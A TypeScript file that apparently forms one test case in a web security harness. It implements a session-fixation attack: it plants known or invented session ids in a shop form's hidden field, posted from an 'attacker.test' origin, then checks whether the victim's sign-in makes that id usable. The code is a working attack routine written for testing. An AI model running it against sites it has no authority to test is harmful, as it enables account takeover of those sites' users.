/** A page of the attacker sends a form of the shop for the victim, his id in its hidden field. Seed 003. */
import { defineAttack } from './attack.ts'
import { Browser } from './lib/browser.ts'
import { at, settle } from './lib/people.ts'
import { cookieNames, invent, tryDoors, visitAsStranger } from './lib/plant.ts'

export const plantedByField = defineAttack('F3 planted token, by hidden field', ['idForm'], async (target) => {
  const form = target.idForm!
  const seen = (await visitAsStranger(target)).jar.pairs(at(target, '/'))
  const names = cookieNames(target, seen)
  const values = [...seen.map(([, value]) => value), invent(seen[0]?.[1])]
  for (const value of values) {
    const browser = new Browser(target.address)
    const fields = Object.entries({ ...form.fields, [form.idField]: value })
    await browser.load(at(target, form.path), { method: 'POST', fields, from: 'https://attacker.test/win' })
    const victim = await settle(target, browser)
    const got = await tryDoors(target, victim, value, names)
    if (got) return { got: true, evidence: `after a form with ${form.idField}=… ${got}` }
  }
  return { got: false, evidence: `${values.length} ids in hidden fields, and none opens anything after sign-in` }
})
